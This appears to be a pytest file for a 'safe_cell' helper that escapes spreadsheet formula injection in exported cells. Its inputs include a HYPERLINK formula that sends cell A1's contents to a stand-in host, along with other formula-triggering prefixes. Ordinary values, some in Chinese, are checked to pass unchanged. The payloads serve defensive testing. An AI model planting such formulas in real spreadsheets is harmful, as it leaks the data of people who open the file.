"""Exported cells never start a formula."""

from datetime import date

import pytest

from bancheng_shared.spreadsheet import safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "＝1+1"])
def test_text_that_would_run_is_kept_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["东湖区市场监管局", "噪音扰民 = 严重", 42, -3.5, None, date(2026, 12, 4)])
def test_ordinary_values_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value
